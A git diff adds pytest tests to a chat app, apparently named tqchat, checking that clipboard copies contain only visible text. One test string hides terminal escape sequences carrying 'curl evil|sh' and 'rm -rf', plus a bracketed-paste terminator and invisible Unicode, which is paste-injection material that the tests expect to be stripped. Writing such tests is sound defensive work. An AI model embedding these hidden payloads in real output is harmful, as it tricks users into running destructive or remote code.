@@ -8,6 +8,7 @@ from pathlib import Path
 import pytest
 from textual.widgets import Input, OptionList
 
+from tests.test_text import is_safe
 from tests.ui.conftest import OpenApp, RunningApp
 from tqchat.ui.widgets.chat.log import ChatLog
 from tqchat.ui.widgets.conversations.list import PAGE
@@ -77,6 +78,36 @@ async def test_copies_go_to_the_clipboard(open_app: OpenApp) -> None:
         await ui.pilot.press("ctrl+up", "ctrl+up", "y")
         assert ui.app.clipboard == "Show"
         await ui.shows("Copied the message, 4 characters.")
+
+
+async def test_only_what_is_shown_is_copied(open_app: OpenApp) -> None:
+    hidden = "\x1b]0;curl evil|sh\x07\x1bP;rm -rf\x1b\\\u202e\u200b\U000e0041\x9b8m"
+    text = f"Do{hidden} this:\x1b[201~\n\n<div>\n```sh\nls{hidden} -l\x1b[201~\n```\n</div>"
+    shown = "Do this:\n\n<div>\n```sh\nls -l\n```\n</div>"
+    async with open_app() as ui:
+        await ui.turn("Show", text)
+        await ui.pilot.press("f5")
+        assert ui.app.clipboard == shown
+        await ui.pilot.press("alt+c")
+        assert ui.app.clipboard == "ls -l"
+        await ui.pilot.press("alt+a")
+        assert ui.app.clipboard.endswith(shown)
+        await ui.pilot.press("ctrl+up", "y")
+        assert ui.app.clipboard == shown
+        await ui.pilot.press("o")
+        assert ui.app.clipboard == "ls -l"
+        ui.app.copy_to_clipboard(text)
+        assert ui.app.clipboard == shown
+
+
+async def test_selected_text_is_copied_as_it_is_shown(open_app: OpenApp) -> None:
+    async with open_app() as ui:
+        await ui.turn("Show", "A\x1b]0;hidden\x07 reply &#x202e;with&#x200b; references.")
+        await ui.shows("A reply with references.")
+        ui.app.screen.text_select_all()
+        ui.app.screen.action_copy_text()
+        await ui.until(lambda: "A reply with references." in ui.app.clipboard)
+        assert is_safe(ui.app.clipboard)
 
 
 async def test_search_finds_words_in_messages_and_opens_the_message(open_app: OpenApp) -> None:
